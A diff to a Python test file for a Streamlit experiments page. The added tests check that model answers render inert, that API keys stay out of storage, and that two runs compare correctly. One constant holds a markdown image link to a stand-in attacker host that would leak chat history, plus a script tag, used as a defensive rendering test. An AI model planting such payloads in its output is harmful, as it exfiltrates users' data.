@@ -11,13 +11,18 @@ from pathlib import Path
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from lib.analysis.compare import Variant
 from lib.analysis.experiments import batch, builtin, planner, store
 from lib.analysis.experiments.cases import Case, Check, Conversation, TestSet
+from lib.analysis.experiments.checks import Verdict
+from lib.analysis.experiments.planner import CellKey, RunSpec
 from lib.backends import models
+from lib.context.payload import Sampling
 from lib.context.request import Target
+from lib.context.strategies import Strategy
 from lib.context.tokens import TiktokenCounter
 from lib.store import storage
-from tests.app.conftest import visible_text
+from tests.app.conftest import type_server, visible_text
 from tests.fake_openai import FakeOpenAI
 
 PAGE = str(Path(__file__).resolve().parents[2] / "pages" / "experiments.py")
@@ -201,3 +206,68 @@ def test_a_batch_run_is_exported_then_scored_from_its_output_file():
     grid = frame_with(at, "No history")
     assert list(grid["Full history"]) == ["pass", "fail"] and list(grid["No history"]) == ["pass", "fail"]
     assert "4 of 4 cells finished" in visible_text(at)
+
+
+HOSTILE = "![x](https://attacker.example/?q=history) <script>alert(1)</script>"
+
+
+def test_questions_answers_and_names_from_files_and_models_render_inert():
+    cases = (Case("c1", HOSTILE, Conversation(), (Check("contains", "attacker"),)),)
+    hostile_variant = {**FULL, "name": "![v](https://attacker.example/v.png)"}
+    with FakeOpenAI() as server:
+        server.behaviour.echo = True  # the model answers with the question: hostile text back from the server
+        at = on_fake(server, stored_set(TestSet(HOSTILE, cases)), exp_variant_rows=[hostile_variant])
+        button(at, "Run 1 cells").click().run()
+        wait_for_the_run(at, 1, timeout_s=60)
+        at.session_state["exp_grid"] = {
+            "selection": {"rows": [], "columns": [], "cells": [(0, hostile_variant["name"])]}
+        }
+        at.run()
+    assert not at.exception, at.exception
+    shown = [m.value for m in at.markdown] + [c.value for c in at.caption]
+    assert any("!\\[x](https://attacker.example" in text for text in shown)  # the answer, shown as text
+    assert not any("![x](" in text or "![v](" in text for text in shown)  # no image syntax left to load
+    assert all(not getattr(m.proto, "allow_html", False) for m in at.markdown)
+
+
+def test_no_key_is_stored_with_a_run_or_its_cells():
+    key = "sk-test-experiments-0123456789abcdef"
+    cases = (Case("c1", "Say hi", Conversation(), (Check("contains", "fake"),)),)
+    with FakeOpenAI() as server:
+        at = on_fake(server, stored_set(TestSet("s", cases)))
+        type_server(at, server.base_url, key)  # typed in the sidebar: a key goes only where it was typed for
+        button(at, "Run 2 cells").click().run()
+        wait_for_the_run(at, 2, timeout_s=60)
+        sent = [r for r in server.requests if r.method == "POST"]
+    assert all(r.headers["authorization"] == f"Bearer {key}" for r in sent)  # sent to its endpoint only
+    database = Path(storage.db_path())
+    stored = b"".join(p.read_bytes() for p in database.parent.glob(database.name + "*"))
+    assert key.encode() not in stored and key[3:15].encode() not in stored
+    assert key not in visible_text(at)
+
+
+def test_two_runs_of_a_set_compare_side_by_side():
+    cases = (Case("c1", "Q1", Conversation(), (Check("contains", "x"),)),
+             Case("c2", "Q2", Conversation(), (Check("contains", "x"),)))  # fmt: skip
+    spec = RunSpec(TestSet("s", cases), (Variant("Full history", Strategy("full")),), 1, 1, Sampling(), "openai", "m")
+    with storage.opened() as conn:
+        for name, statuses in (("before", ("pass", "fail")), ("after", ("pass", "pass"))):
+            run_id = store.create_run(conn, spec, name, "s")
+            for case, status in zip(("c1", "c2"), statuses, strict=True):
+                cell = store.CellResult(CellKey(0, case, 0), status, "x", (Verdict("contains: x", status == "pass",
+                                        ""),), {}, 10, 10, 1, None, 0.1, 0.0)  # fmt: skip
+                store.record_cell(conn, run_id, cell)
+            store.set_status(conn, run_id, "done")
+    ids = {name: run_id for run_id, name in _runs()}
+    at = page(stored_set(TestSet("t", cases)), "Compare runs", exp_compare_a=ids["before"], exp_compare_b=ids["after"])
+    assert not at.exception, at.exception
+    per_variant = frame_with(at, "pass rate % (A)")
+    assert (per_variant["pass rate % (A)"].iloc[0], per_variant["pass rate % (B)"].iloc[0]) == (50.0, 100.0)
+    changed = frame_with(at, "question")
+    assert list(changed["case"]) == ["c2"] and (changed["A"].iloc[0], changed["B"].iloc[0]) == ("fail", "pass")
+    assert list(frame_with(at, "finished")["run"]) == ["after", "before"]  # every run listed, newest first
+
+
+def _runs() -> list[tuple[str, str]]:
+    with storage.opened() as conn:
+        return [(r.id, r.name) for r in store.list_runs(conn)]
